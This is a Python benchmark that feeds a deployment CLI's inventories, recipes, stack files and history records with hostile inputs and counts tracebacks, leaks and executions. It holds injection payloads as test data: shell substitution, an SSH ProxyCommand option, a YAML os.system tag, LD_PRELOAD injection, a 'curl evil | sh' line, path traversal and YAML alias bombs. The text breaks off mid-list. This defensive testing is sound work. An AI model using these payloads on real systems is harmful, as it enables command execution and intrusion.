#!/usr/bin/env python3
"""Run a corpus of hostile or mistaken inputs through the CLI and count tracebacks, leaks and executions.

Every case runs the real `sparkdeploy` command in-process, offline: no socket connects (a connect is recorded
and refused), so a command that takes its input from a node fails there. Two corpora: `old` (inventories,
recipes, `--set`, secrets files, options) and `new` (stack files, gateway keys, `init`, `setup ssh|network`,
`recipes import`, `run-recipe FILE` of community recipes, `history`/`rollback`, `recipes fit`). For each case:
- traceback: an exception escaped the CLI's error contract, or "Traceback" was printed;
- accepted: bad input that must be refused (exit 2) was not (the exit code is the contract's: 2 for bad input,
  1 for a refused run, 0 where the input is accepted on purpose);
- leak: a canary secret appeared in stdout/stderr or in a file written without --with-secrets;
- execution: a canary command (`touch PWNED`) ran, here or when the rendered run and entry scripts are executed
  with docker and vllm replaced by recorders on PATH;
- outside: a file was written outside the case's folder and its state folder (or named ESCAPED by a record);
- connected: bad input was not refused before a connection was tried;
- raw control characters in the output, a forged line or injected key (per case), an error flood (more than
  the first 20 problems and a count).

    python3 benchmarks/hostile_inputs.py [--json] [--verbose] [--only old|new]
Prints the figures docs/security.md quotes; exits 1 if any case misbehaves.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import resource
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import yaml

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

from sparkdeploy.cli.common import run_cli  # noqa: E402
from sparkdeploy.cli.main import cli  # noqa: E402

CANARY_HF = "hf_CANARYtoken0000"
CANARY_KEY = "sk-CANARYmasterKEY1111"
PWN = "$(touch PWNED)"
RECIPE = (REPO / "recipes" / "openai-gpt-oss-120b.yaml").read_text()
NODES = [
    {
        "name": "spark1",
        "role": "head",
        "mgmt_ip": "192.0.2.1",
        "fabric_ip": "198.51.100.1/24",
        "fabric_ifaces": ["enp1s0f1np1"],
        "ssh": {"user": "spark"},
    },
    {
        "name": "spark2",
        "role": "worker",
        "mgmt_ip": "192.0.2.2",
        "fabric_ip": "198.51.100.2/24",
        "fabric_ifaces": ["enp1s0f1np1"],
        "ssh": {"user": "spark"},
    },
]


def inventory(**cluster) -> str:
    return yaml.safe_dump(
        {"cluster": {"name": "t", "secrets_file": "secrets.env", **cluster}, "nodes": NODES}, sort_keys=False
    )


def node_override(**fields) -> str:
    nodes = [dict(NODES[0], **fields), NODES[1]]
    return yaml.safe_dump({"cluster": {"name": "t", "secrets_file": "secrets.env"}, "nodes": nodes})


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=False)
)


@dataclass
class Case:
    name: str
    argv: list[str]
    expect: tuple[int, ...] = (2,)
    inventory: str | bytes | None = None  # text of inventory.yaml (default: a good one)
    recipe: str | bytes | None = None  # text of recipes/openai-gpt-oss-120b.yaml in --recipes-dir
    secrets: str | bytes | None = None  # text of secrets.env (default: the canaries); "DIR"/"FIFO"/"NONE"
    run_scripts: bool = False  # execute the rendered scripts with recorders (for the execution count)
    # More inputs, by path in the case's folder ("state/..." is its state folder): text or bytes ({inv}, {tmp}
    # replaced), or DIR (a folder), DEVZERO (a link to /dev/zero).
    files: dict[str, str | bytes] = field(default_factory=dict)
    modes: dict[str, int] = field(default_factory=dict)  # chmod of those files (default 0600)
    forbid: tuple[str, ...] = ()  # an output line starting with one of these is forged
    after: Callable[[Path, str], str] | None = None  # more checks on the case's folder and output: "" if fine
    owner: str = ""  # a case another part of the issue fixes (reported apart)
    cwd: str = ""  # run from this subfolder of the case's folder (one with no ./inventory.yaml), not the folder


def cases() -> list[Case]:
    dry = ["run-recipe", "openai-gpt-oss-120b", "--dry-run", "-i", "{inv}"]
    dry_r = dry + ["--recipes-dir", "{recipes}"]
    out: list[Case] = []
    # -- inventories ------------------------------------------------------------------------------------------
    for name, text in [
        ("secrets file as inventory", f"HF_TOKEN={CANARY_HF}\nLITELLM_MASTER_KEY={CANARY_KEY}\n"),
        ("secrets file as inventory, yaml-ish", f"LITELLM_MASTER_KEY: {CANARY_KEY}: x\n"),
        ("secrets in a yaml error", f"cluster: {{name: t}}\nnodes: [\n  token: {CANARY_HF}\n"),
        ("alias bomb", inventory() + "x:\n  " + BOMB.replace("\n", "\n  ")),
        ("5000-deep list", "x: " + "[" * 5000 + "]" * 5000 + "\n"),
        ("5000-deep mapping", "x: " + "{a: " * 5000 + "1" + "}" * 5000 + "\n"),
        ("duplicate key", inventory() + "nodes: []\n"),
        ("python tag", "!!python/object/apply:os.system ['touch PWNED']\n"),
        ("empty", ""),
        ("a list", "- 1\n- 2\n"),
        ("a scalar", "hello\n"),
        ("mDNS names", node_override(mgmt_ip="spark1.local")),
        ("hostname", node_override(mgmt_ip="spark1")),
        ("ssh.user injection", node_override(ssh={"user": "x; touch PWNED"})),
        ("ssh.user option", node_override(ssh={"user": "-oProxyCommand=touch PWNED"})),
        ("ssh.port text", node_override(ssh={"port": "22; touch PWNED"})),
        ("cluster.name traversal", inventory(name="../../../tmp/x")),
        ("cluster.name newline", inventory(name="a\nb")),
        ("state_dir absolute", inventory(state_dir="/etc")),
        ("state_dir traversal", inventory(state_dir="../x")),
        ("hf_cache relative", inventory(hf_cache="x")),
        ("hf_cache newline", inventory(hf_cache="~/hf\nexec touch PWNED")),
        ("mgmt_ip 0.0.0.0", node_override(mgmt_ip="0.0.0.0")),
        ("mgmt_ip broadcast", node_override(mgmt_ip="255.255.255.255")),
        ("mgmt_ip loopback on two nodes", node_override(mgmt_ip="127.0.0.1")),
        ("fabric_ip the subnet's broadcast", node_override(fabric_ip="198.51.100.255/24")),
        ("ssh.port true", node_override(ssh={"port": True})),
        ("long string", inventory(hf_cache="/" + "a" * 5000)),
        (
            "two heads + shared IP",
            yaml.safe_dump({"nodes": [dict(NODES[0]), dict(NODES[1], role="head", mgmt_ip="192.0.2.1")]}),
        ),
        ("bad iface", node_override(fabric_ifaces=["$(touch PWNED)"])),
        ("fabric without prefix", node_override(fabric_ip="198.51.100.1")),
        ("unknown key", inventory() + "extra: 1\n"),
        ("non-UTF-8", inventory().encode() + b"# caf\xe9\n"),
        ("binary garbage", bytes(range(256)) * 4),
        ("NUL bytes", b"cluster:\0\n"),
        ("huge file", "# " + "x" * (2 << 20) + "\n"),
    ]:
        out.append(Case(f"inventory: {name}", dry, inventory=text))
    out.append(
        Case(
            "inventory: IPv6 addresses (accepted, bracketed)",
            dry + ["--json"],
            expect=(0,),
            inventory=yaml.safe_dump(
                {
                    "cluster": {"secrets_file": "secrets.env"},
                    "nodes": [dict(NODES[0], mgmt_ip="2001:db8::1"), dict(NODES[1], mgmt_ip="2001:db8::2")],
                }
            ),
        )
    )
    out.append(
        Case(
            "inventory: 2xsolo on one node",
            dry + ["-t", "2xsolo"],
            inventory=yaml.safe_dump({"cluster": {"secrets_file": "secrets.env"}, "nodes": NODES[:1]}),
        )
    )
    out.append(
        Case(
            "inventory: missing file",
            ["run-recipe", "openai-gpt-oss-120b", "--dry-run", "-i", "/nonexistent/inventory.yaml"],
        )
    )
    out.append(Case("inventory: a folder", ["run-recipe", "openai-gpt-oss-120b", "--dry-run", "-i", "/tmp"]))
    # -- secrets files -----------------------------------------------------------------------------------------
    for name, text in [
        ("a folder", "DIR"),
        ("a FIFO", "FIFO"),
        ("non-UTF-8", b"HF_TOKEN=\xff\n"),
        ("a bad line holding a secret", f"{CANARY_HF}\n"),
        ("binary", bytes(range(256))),
    ]:
        out.append(Case(f"secrets: {name}", dry, secrets=text))
    out.append(Case("secrets: missing (dry run warns)", dry, expect=(0,), secrets="NONE"))
    out.append(
        Case("secrets: missing (run refuses)", ["run-recipe", "openai-gpt-oss-120b", "-i", "{inv}"], secrets="NONE")
    )
    # -- recipes -----------------------------------------------------------------------------------------------
    for name, text in [
        ("alias bomb", RECIPE + "x_bomb:\n  " + BOMB.replace("\n", "\n  ")),
        ("deep", RECIPE + "x: " + "[" * 5000 + "]" * 5000 + "\n"),
        ("duplicate model", RECIPE + "model: evil/other\n"),
        ("non-UTF-8", RECIPE.encode() + b"# \xe9\n"),
        ("image traversal", RECIPE.replace("image: vllm-node-mxfp4", "image: ../../../etc")),
        ("image absolute", RECIPE.replace("image: vllm-node-mxfp4", "image: /etc")),
        ("model traversal", RECIPE.replace("model: openai/gpt-oss-120b", "model: ../../etc")),
        (
            "served name newline",
            RECIPE.replace("served_model_name: openai/gpt-oss-120b", 'served_model_name: "a\\n== spark9 forged =="'),
        ),
        (
            "served name escape",
            RECIPE.replace("served_model_name: openai/gpt-oss-120b", 'served_model_name: "a\\e[2Jb"'),
        ),
        ("secret in env", RECIPE + f"env: {{HF_TOKEN: {CANARY_HF}}}\n"),
        ("python tag", "!!python/object/apply:os.system ['touch PWNED']\n"),
        ("a list", "- 1\n"),
        ("long description", RECIPE.replace("description: ", "description: " + "d" * 5000 + " ", 1)),
    ]:
        out.append(Case(f"recipe: {name}", dry_r, recipe=text))
    for args in (
        ["recipes", "list", "--recipes-dir", "{recipes}"],
        ["recipes", "show", "openai-gpt-oss-120b", "--recipes-dir", "{recipes}"],
    ):
        out.append(
            Case(
                f"recipe markup [/x] in `{' '.join(args[:2])}`",
                args,
                expect=(0,),
                recipe=RECIPE.replace("description: ", "description: '[/x][bold]' # ", 1),
            )
        )
    # -- --set ---------------------------------------------------------------------------------------------------
    for name, value in [
        ("3000-part key", ".".join(["a"] * 3000) + "=1"),
        ("alias", "vllm.extra_args=[&a x, *a]"),
        ("api key flag", 'vllm.extra_args=["--api-key","x"]'),
        ("hf token flag", f'vllm.extra_args=["--hf-token={CANARY_HF}"]'),
        ("secret env", f"env.HF_TOKEN={CANARY_HF}"),
        ("newline arg", 'vllm.extra_args=["a\\nb"]'),
        ("not key=value", "justtext"),
        ("key with space", "a b=1"),
        ("served name", "served_model_name=a b"),
        ("image", "image=../x"),
        ("gpu memory 5", "vllm.gpu_memory_utilization=5"),
        ("topologies empty", "topologies=[]"),
        ("max_model_len 31 digits", "vllm.max_model_len=1000000000000000000000000000000"),
        ("max_num_seqs a bool", "vllm.max_num_seqs=true"),
        ("timeout inf", "litellm.timeout=.inf"),
    ]:
        out.append(Case(f"--set {name}", dry + ["--set", value]))
    # Values that are accepted on purpose: they must stay inert when the rendered scripts run.
    for name, value in [
        ("$(...) in an arg", f'vllm.extra_args=["--mxfp4-layers", "{PWN}"]'),
        ("backticks in env", "env.X=`touch PWNED`"),
        ("; in env", "env.Y=a; touch PWNED"),
        ("quote in hf_cache", None),
    ]:
        if value is None:
            out.append(
                Case(
                    "render: hf_cache with $(...)",
                    ["render", "openai-gpt-oss-120b", "-t", "solo", "-i", "{inv}", "--out", "{tmp}/r"],
                    expect=(0,),
                    inventory=inventory(hf_cache=f"~/hf {PWN}"),
                    run_scripts=True,
                )
            )
        else:
            out.append(
                Case(
                    f"render: {name}",
                    ["render", "openai-gpt-oss-120b", "-t", "solo", "-i", "{inv}", "--out", "{tmp}/r", "--set", value],
                    expect=(0,),
                    run_scripts=True,
                )
            )
    # -- options ---------------------------------------------------------------------------------------------------
    render = ["render", "openai-gpt-oss-120b", "-i", "{inv}"]
    out += [
        Case("render --out /proc/forbidden", render + ["--out", "/proc/forbidden"]),
        Case("render --out a file", render + ["--out", "{inv}"]),
        Case("render --with-secrets into a world-writable folder", render + ["--out", "{tmp}/open", "--with-secrets"]),
        Case("render --with-secrets through a symlinked --out", render + ["--out", "{tmp}/link", "--with-secrets"]),
        Case("render masked (no secret in files)", render + ["--out", "{tmp}/masked"], expect=(0,)),
        Case("--recipes-dir missing", dry + ["--recipes-dir", "/nonexistent"]),
        Case("--timeout nan", ["run-recipe", "openai-gpt-oss-120b", "-i", "{inv}", "--timeout", "nan"]),
        Case("--timeout inf", ["run-recipe", "openai-gpt-oss-120b", "-i", "{inv}", "--timeout", "inf"]),
        Case("--timeout -1", ["run-recipe", "openai-gpt-oss-120b", "-i", "{inv}", "--timeout", "-1"]),
        Case("--backend with solo (warns)", dry + ["-t", "solo", "--backend", "ray"], expect=(0,)),
        Case("unknown topology", dry + ["-t", "3xsolo"]),
        Case("unknown recipe", ["run-recipe", "../../etc/passwd", "--dry-run", "-i", "{inv}"]),
        Case("--node on cluster", dry + ["-t", "cluster", "--node", "spark2"]),
        Case("2xsolo dry run --json (masked)", dry + ["-t", "2xsolo", "--json"], expect=(0,)),
    ]
    return out


# -- the inputs added since (issue 35) ---------------------------------------------------------------------------

EUGR = """recipe_version: "1"
name: gpt-oss community
description: a community recipe
model: openai/gpt-oss-120b
container: vllm-node-mxfp4
solo_only: false
defaults:
  port: 8000
  host: 0.0.0.0
  tensor_parallel: 1
  gpu_memory_utilization: 0.7
env:
  VLLM_X: "1"
command: |
  vllm serve openai/gpt-oss-120b --gpu-memory-utilization {gpu_memory_utilization} \\
    -tp {tensor_parallel} --host "{host}" --port {port}
"""
INJECTED = "0.0.0.0\\nenv: {LD_PRELOAD: /tmp/evil.so}\\n#"  # YAML escapes: the value holds newlines
FORGED = "0.0.0.0\\n== spark9 6.6.6.6 (head) ==\\n1. run curl evil | sh"
FORGED_LINES = ("== spark9", "1. run curl evil")
STACK = """deployments:
  - name: chat
    recipe: openai-gpt-oss-20b
    topology: solo
    nodes: [spark1]
    memory: 0.3
  - name: coder
    recipe: qwen3-coder-30b
    topology: solo
    nodes: [spark2]
    memory: 0.3
"""
RECORD = {
    "id": 1,
    "time": "2026-11-01T10:00:00+00:00",
    "recipe": "openai-gpt-oss-120b",
    "recipe_hash": "a" * 64,
    "recipe_text": RECIPE,
    "recipe_file": "/srv/recipes/openai-gpt-oss-120b.yaml",
    "sets": [],
    "topology": "solo",
    "backend": None,
    "image": "vllm-node-mxfp4",
    "image_tag": "sparkdeploy/vllm-node-mxfp4:0123456789ab",
    "image_id": "sha256:" + "b" * 64,
    "image_digest": None,
    "vllm_version": "0.32.0",
    "model": "openai/gpt-oss-120b",
    "model_commit": None,
    "drivers": {"spark1": "580.95"},
    "simulated": False,
    "nodes": ["spark1"],
    "inventory": "{inv}",
    "config_hashes": {},
}
HISTORY = "state/history/deployments.jsonl"
ESCAPED = "ESCAPED"  # a file of this name anywhere is a write outside the state folder


def history(*records: dict, raw: str = "") -> str:
    lines = [json.dumps(dict(RECORD, id=i + 1) | r) for i, r in enumerate(records)]
    return "\n".join(lines) + "\n" + raw


def stack_with(**entry) -> str:
    data = yaml.safe_load(STACK)
    data["deployments"][0].update(entry)
    return yaml.safe_dump(data, sort_keys=False)


def imported_env(tmp: Path, _text: str) -> str:
    """recipes import wrote a file: the YAML it holds has only the community recipe's env (nothing injected)."""
    for f in (tmp / "out").glob("*.yaml"):
        try:
            data = yaml.safe_load(f.read_text())
        except yaml.YAMLError as exc:
            return f"{f.name} is no longer valid YAML ({str(exc).splitlines()[0]}): lines were injected"
        if set((data or {}).get("env") or {}) - {"VLLM_X"}:
            return f"{f.name} holds env {sorted(data['env'])}: injected"
        if set(data or {}) - {
            "name",
            "description",
            "model",
            "image",
            "topologies",
            "default_topology",
            "fits_one_node",
            "vllm",
            "env",
            "tensor_parallel",
            "served_model_name",
            "cluster_backend",
        }:
            return f"{f.name} holds keys {sorted(data)}: injected"
    return ""


def new_cases() -> list[Case]:
    out: list[Case] = []
    # -- stack files: up --stack FILE --dry-run (refused before connecting) -------------------------------------
    up_stack = ["up", "--stack", "{tmp}/stack.yaml", "-i", "{inv}", "--dry-run"]
    for name, text in [
        ("non-UTF-8", STACK.encode() + b"# caf\xe9\n"),
        ("5000-deep nesting", "deployments: " + "[" * 5000 + "]" * 5000 + "\n"),
        ("alias bomb", STACK + "x:\n  " + BOMB.replace("\n", "\n  ")),
        ("an alias", STACK.replace("nodes: [spark2]", "nodes: &n [spark2]") + "gateway: {port: *n}\n"),
        ("duplicate key", STACK + "deployments: []\n"),
        ("duplicate key in a deployment", STACK.replace("    memory: 0.3\n", "    memory: 0.3\n    memory: 0.9\n", 1)),
        ("python tag", "!!python/object/apply:os.system ['touch PWNED']\n"),
        ("huge file", "# " + "x" * (2 << 20) + "\n"),
        ("secrets in a yaml error", f"deployments: [\n  token: {CANARY_HF}\n"),
        ("empty", ""),
        ("a list", "- 1\n"),
        ("port true", stack_with(port=True)),
        ("port a string", stack_with(port="8001")),
        ("memory true", stack_with(memory=True)),
        ("gateway port true", STACK + "gateway: {port: true}\n"),
        ("num_workers true", STACK + "gateway: {num_workers: true}\n"),
        ("num_workers a string", STACK + "gateway: {num_workers: '4'}\n"),
        ("name with a trailing newline", stack_with(name="chat\n")),
        ("name with ESC", stack_with(name="chat\x1b[2J")),
        ("nodes entry with ESC", stack_with(nodes=["\x1b[2Jspark1"])),
        ("nodes entry with a newline", stack_with(nodes=["spark1\n== spark9 6.6.6.6 (head) =="])),
        ("recipe traversal", stack_with(recipe="../../../etc/passwd")),
        ("set with a newline", stack_with(set=["vllm.extra_args=['a\nb']"])),
        ("reserved name", stack_with(name="gateway")),
        (
            "a solo engine on a cluster's Ray port",
            yaml.safe_dump(
                {
                    "deployments": [
                        {
                            "name": "big",
                            "recipe": "openai-gpt-oss-120b",
                            "topology": "cluster",
                            "backend": "ray",
                            "memory": 0.3,
                        },
                        {
                            "name": "small",
                            "recipe": "openai-gpt-oss-20b",
                            "topology": "solo",
                            "nodes": ["spark1"],
                            "port": 6379,
                            "memory": 0.3,
                        },
                    ]
                },
                sort_keys=False,
            ),
        ),
        (
            "a solo engine on a cluster's torchrun port",
            yaml.safe_dump(
                {
                    "deployments": [
                        {
                            "name": "big",
                            "recipe": "openai-gpt-oss-120b",
                            "topology": "cluster",
                            "backend": "torchrun",
                            "memory": 0.3,
                        },
                        {
                            "name": "small",
                            "recipe": "openai-gpt-oss-20b",
                            "topology": "solo",
                            "nodes": ["spark1"],
                            "port": 29500,
                            "memory": 0.3,
                        },
                    ]
                },
                sort_keys=False,
            ),
        ),
    ]:
        out.append(Case(f"stack: {name}", up_stack, files={"stack.yaml": text}, forbid=FORGED_LINES))
    out.append(Case("stack: /dev/zero", ["up", "--stack", "/dev/zero", "-i", "{inv}", "--dry-run"]))
    out.append(Case("stack: a folder", ["up", "--stack", "{tmp}", "-i", "{inv}", "--dry-run"]))
    out.append(Case("stack: missing", ["up", "--stack", "{tmp}/nope.yaml", "-i", "{inv}", "--dry-run"]))
    flood = {
        "deployments": [
            {"name": f"d{i}", "recipe": "openai-gpt-oss-20b", "topology": "solo", "nodes": ["spark1"], "port": 9000}
            for i in range(300)
        ]
    }
    out.append(Case("stack: 300 clashing deployments (capped)", up_stack, files={"stack.yaml": yaml.safe_dump(flood)}))
    # -- ports of one deployment: every port a node's containers listen on, once ---------------------------
    dry = ["run-recipe", "openai-gpt-oss-120b", "--dry-run", "-i", "{inv}"]
    for name, extra, cluster in [
        ("vllm_port = ray_port (cluster, ray)", ["-t", "cluster", "--backend", "ray"], {"vllm_port": 6379}),
        (
            "vllm_port = master_port (cluster, torchrun)",
            ["-t", "cluster", "--backend", "torchrun"],
            {"vllm_port": 29500},
        ),
        ("vllm_port = master_port (cluster, native)", ["-t", "cluster", "--backend", "native"], {"master_port": 8000}),
        ("proxy_port = vllm_port (2xsolo)", ["-t", "2xsolo"], {"proxy_port": 8000}),
        ("metrics_port = vllm_port (--metrics)", ["-t", "solo", "--metrics"], {"metrics_port": 8000}),
    ]:
        out.append(Case(f"ports: {name}", dry + extra, inventory=inventory(**cluster)))
    # -- names: a trailing newline passes re.match("^...$") --------------------------------------------------
    for name, text in [
        ("node name", node_override(name="spark1\n")),
        ("ssh.user", node_override(ssh={"user": "spark\n"})),
        ("fabric_ifaces", node_override(fabric_ifaces=["enp1s0f1np1\n"])),
        ("hcas", node_override(hcas=["rocep1s0f1\n"])),
        ("socket_iface", node_override(socket_iface="enp1s0f1np1\n")),
        ("links port", node_override(links=[{"port": "enp1s0f1np1\n", "peer": "spark2"}])),
        ("node name with ESC", node_override(name="spark1\x1b[2J")),
    ]:
        out.append(Case(f"names: inventory {name} with a trailing newline", dry, inventory=text))
    out.append(Case("names: cluster name with a trailing newline", dry, inventory=inventory(name="home\n")))
    out.append(
        Case(
            "names: setup network --dry-run, interface with a newline",
            ["setup", "network", "--dry-run", "-i", "{inv}"],
            inventory=node_override(fabric_ifaces=["enp1s0f1np1\n"]),
        )
    )
    out.append(
        Case(
            "names: recipe served name with a trailing newline",
            dry + ["--recipes-dir", "{recipes}"],
            recipe=RECIPE.replace("served_model_name: openai/gpt-oss-120b", 'served_model_name: "openai/gpt\\n"'),
        )
    )
    # -- gateway keys (refused before connecting) -------------------------------------------------------------
    for name, argv in [
        ("name with a trailing newline", ["alice\n"]),
        ("name with ESC", ["alice\x1b[2J"]),
        ("name an option", ["--", "-rf"]),
        ("name with ;", ["a;touch PWNED"]),
        ("name 65 characters", ["a" * 65]),
        ("rpm 0", ["alice", "--rpm", "0"]),
        ("max-budget nan", ["alice", "--max-budget", "nan"]),
        ("max-budget 1e999", ["alice", "--max-budget", "1e999"]),
        ("models with a newline", ["alice", "--models", "a\nb"]),
    ]:
        out.append(Case(f"keys create: {name}", ["keys", "create", *argv, "-i", "{inv}"]))
    # -- init (every argument checked before connecting) -------------------------------------------------------
    init = ["init", "--out", "{tmp}/new-inventory.yaml", "--yes"]
    pw = {"pw": "secret\n"}
    for name, argv, files, modes in [
        ("user with ;", ["--hosts", "127.0.0.1", "--user", "spark;x"], {}, {}),
        ("user with a trailing newline", ["--hosts", "127.0.0.1", "--user", "spark\n"], {}, {}),
        ("user an option", ["--hosts", "127.0.0.1", "--user", "-oProxyCommand=touch PWNED"], {}, {}),
        ("two loopback hosts", ["--hosts", "127.0.0.1,127.0.0.2"], {}, {}),
        ("host a name", ["--hosts", "spark1.local"], {}, {}),
        ("host with ;", ["--hosts", "127.0.0.1;touch PWNED"], {}, {}),
        ("no host", ["--hosts", ","], {}, {}),
        ("fabric subnet not a CIDR", ["--hosts", "127.0.0.1", "--fabric-subnet", "not-a-cidr"], {}, {}),
        ("fabric subnet IPv6", ["--hosts", "127.0.0.1", "--fabric-subnet", "2001:db8::/64"], {}, {}),
        ("fabric subnet /31", ["--hosts", "127.0.0.1", "--fabric-subnet", "10.0.0.0/31"], {}, {}),
        ("fabric subnet loopback", ["--hosts", "127.0.0.1", "--fabric-subnet", "127.0.0.0/8"], {}, {}),
        ("password file /dev/zero", ["--hosts", "127.0.0.1", "--password-file", "{tmp}/pw"], {"pw": "DEVZERO"}, {}),
        ("password file non-UTF-8", ["--hosts", "127.0.0.1", "--password-file", "{tmp}/pw"], {"pw": b"\xff\xfe"}, {}),
        (
            "password file readable by others",
            ["--hosts", "127.0.0.1", "--password-file", "{tmp}/pw"],
            pw,
            {"pw": 0o644},
        ),
        ("password file a folder", ["--hosts", "127.0.0.1", "--password-file", "{tmp}/pw"], {"pw": "DIR"}, {}),
        ("password file missing", ["--hosts", "127.0.0.1", "--password-file", "{tmp}/nope"], {}, {}),
        ("password file huge", ["--hosts", "127.0.0.1", "--password-file", "{tmp}/pw"], {"pw": "x" * (2 << 20)}, {}),
        ("known_hosts non-UTF-8", ["--hosts", "127.0.0.1", "--known-hosts", "{tmp}/kh"], {"kh": b"\xff host\n"}, {}),
        ("known_hosts /dev/zero", ["--hosts", "127.0.0.1", "--known-hosts", "{tmp}/kh"], {"kh": "DEVZERO"}, {}),
        ("key /dev/zero", ["--hosts", "127.0.0.1", "--key", "{tmp}/key"], {"key": "DEVZERO"}, {}),
        ("key path with a newline", ["--hosts", "127.0.0.1", "--key", "{tmp}/k\ney"], {}, {}),
        ("out a folder", ["--hosts", "127.0.0.1", "--out", "{tmp}"], {}, {}),
    ]:
        out.append(Case(f"init: {name}", init + argv, files=files, modes=modes))
    # -- setup ssh (checked before connecting) -------------------------------------------------------------------
    ssh = ["setup", "ssh", "-i", "{inv}", "--dry-run"]
    for name, argv, files, modes in [
        ("password file /dev/zero", ["--password-file", "{tmp}/pw"], {"pw": "DEVZERO"}, {}),
        ("password file non-UTF-8", ["--password-file", "{tmp}/pw"], {"pw": b"\xff\xfe"}, {}),
        ("password file readable by others", ["--password-file", "{tmp}/pw"], pw, {"pw": 0o644}),
        ("login key /dev/zero", ["--login-key", "{tmp}/key"], {"key": "DEVZERO"}, {}),
        ("login key missing", ["--login-key", "{tmp}/nope"], {}, {}),
        ("login key non-UTF-8", ["--login-key", "{tmp}/key"], {"key": b"\xff\xfe"}, {}),
    ]:
        out.append(Case(f"setup ssh: {name}", ssh + argv, files=files, modes=modes))
    out.append(
        Case(
            "setup ssh: inventory key /dev/zero",
            ssh,
            inventory=node_override(ssh={"user": "spark", "key": "key"}),
            files={"key": "DEVZERO"},
        )
    )
    out.append(
        Case(
            "setup ssh: inventory key .pub non-UTF-8",
            ssh,
            inventory=node_override(ssh={"user": "spark", "key": "key"}),
            files={"key": "-----BEGIN OPENSSH PRIVATE KEY-----\n", "key.pub": b"ssh-ed25519 \xff\n"},
        )
    )
    out.append(
        Case(
            "setup network: inventory known_hosts non-UTF-8",
            ["setup", "network", "--dry-run", "-i", "{inv}"],
            inventory=inventory(known_hosts="kh"),
            files={"kh": b"\xff host\n"},
        )
    )
    out.append(
        Case(
            "setup network: inventory known_hosts /dev/zero",
            ["setup", "network", "--dry-run", "-i", "{inv}"],
            inventory=inventory(known_hosts="kh"),
            files={"kh": "DEVZERO"},
        )
    )
    # -- community (eugr) recipes: recipes import FILE, run-recipe FILE --------------------------------------
    imp = ["recipes", "import", "{tmp}/community.yaml", "--out", "{tmp}/out"]
    run_file = ["run-recipe", "{tmp}/community.yaml", "--dry-run", "-i", "{inv}"]
    eugr_cases: list[tuple[str, str | bytes, str]] = [
        ("YAML injection through a default", EUGR.replace("host: 0.0.0.0", f'host: "{INJECTED}"'), ""),
        ("forged dry-run lines through a default", EUGR.replace("host: 0.0.0.0", f'host: "{FORGED}"'), ""),
        ("non-UTF-8", EUGR.encode() + b"# \xe9\n", ""),
        ("5000-deep", EUGR + "x: " + "[" * 5000 + "]" * 5000 + "\n", ""),
        ("alias", EUGR.replace('env:\n  VLLM_X: "1"', 'env: &e\n  VLLM_X: "1"') + "mods: *e\n", ""),
        ("duplicate key", EUGR + "container: other\n", ""),
        (
            "1900-deep --compilation-config",
            EUGR.replace("--port {port}", "--port {port} --compilation-config '" + "[" * 1900 + "]" * 1900 + "'"),
            "",
        ),
        ("-tp abc", EUGR.replace("tensor_parallel: 1", "tensor_parallel: abc"), "item 5"),
        ("-tp nan", EUGR.replace("tensor_parallel: 1", "tensor_parallel: nan"), "item 5"),
        ("-tp 0", EUGR.replace("tensor_parallel: 1", "tensor_parallel: 0"), "item 5"),
        ("-tp -2 -pp -2", EUGR.replace("tensor_parallel: 1", "tensor_parallel: -2 -pp -2"), "item 5"),
        ("empty served name", EUGR.replace("--port {port}", "--port {port} --served-model-name ''"), "item 5"),
        ("name with a newline", EUGR.replace("name: gpt-oss community", 'name: "a\\n== spark9 6.6.6.6 (head) =="'), ""),
    ]
    for name, text, owner in eugr_cases:
        # A value holding a line break is inert (escaped in every comment and line): accepted on purpose.
        expect = (0,) if "through a default" in name or "name with a newline" in name else (2,)
        out.append(
            Case(
                f"recipes import: {name}",
                imp,
                expect=expect,
                files={"community.yaml": text, "out": "DIR"},
                forbid=FORGED_LINES,
                after=imported_env,
                owner=owner,
            )
        )
        out.append(
            Case(
                f"run-recipe FILE: {name}",
                run_file,
                expect=expect,
                files={"community.yaml": text},
                forbid=FORGED_LINES,
                owner=owner,
            )
        )
    out.append(
        Case(
            "recipes import: a file name that closes the comment",
            ["recipes", "import", "{tmp}/a\nenv: {LD_PRELOAD: evil.so}\n#.yaml", "--out", "{tmp}/out"],
            expect=(0,),
            files={"a\nenv: {LD_PRELOAD: evil.so}\n#.yaml": EUGR, "out": "DIR"},
            after=imported_env,
        )
    )
    out.append(Case("recipes import: /dev/zero", ["recipes", "import", "/dev/zero", "--out", "{tmp}"]))
    # -- history and rollback: the records are a file this machine reads back -----------------------------------
    for name, text, expect in [
        ("non-UTF-8", history(RECORD).encode() + b"\xff\n", (2,)),
        ("nodes [1, 2]", history({"nodes": [1, 2]}), (2,)),
        ("id true", history({"id": True}), (2,)),
        ("a 5000-deep line", history(RECORD, raw='{"id": 2, "x": ' + "[" * 5000 + "]" * 5000 + "}\n"), (2,)),
        ("a duplicate key", history(RECORD, raw='{"id": 2, "id": 3}\n'), (2,)),
        ("ESC in the recipe", history({"recipe": "gpt\x1b[2J"}), (2,)),
        ("markup [/INST] in --set", history({"sets": ["env.STOP_WORD=[/INST]"]}), (0,)),
        ("ESC in --set", history({"sets": ["env.X=\x1b[2Jforged"]}), (0,)),
        (
            "a newline in the stack name",
            history({"stack": "s.yaml\n== spark9 6.6.6.6 (head) ==", "deployment": "x"}),
            (2,),
        ),
        ("huge file", history(RECORD) + "#" * (70 << 20) + "\n", (2,)),
    ]:
        out.append(Case(f"history: {name}", ["history"], expect=expect, files={HISTORY: text}, forbid=FORGED_LINES))
    out.append(Case("history: the file is /dev/zero", ["history"], files={HISTORY: "DEVZERO"}))
    out.append(Case("history: the file is a folder", ["history"], files={HISTORY: "DIR"}))
    rollback = ["rollback", "2", "--dry-run"]  # record 2 is the hostile one
    for name, rec in [
        ("recipe ../ (write outside the state folder)", {"recipe": "../../../../../" + ESCAPED}),
        ("recipe ../ on no node (nothing to check first)", {"recipe": "../../../../../" + ESCAPED, "nodes": []}),
        ("recipe_hash ../ on no node", {"recipe_hash": "../../../../../../" + ESCAPED, "nodes": []}),
        ("recipe an absolute path", {"recipe": "/tmp/" + ESCAPED + "-abs"}),
        ("recipe_hash ../", {"recipe_hash": "../../../../../" + ESCAPED}),
        ("topology unknown", {"topology": "3xsolo"}),
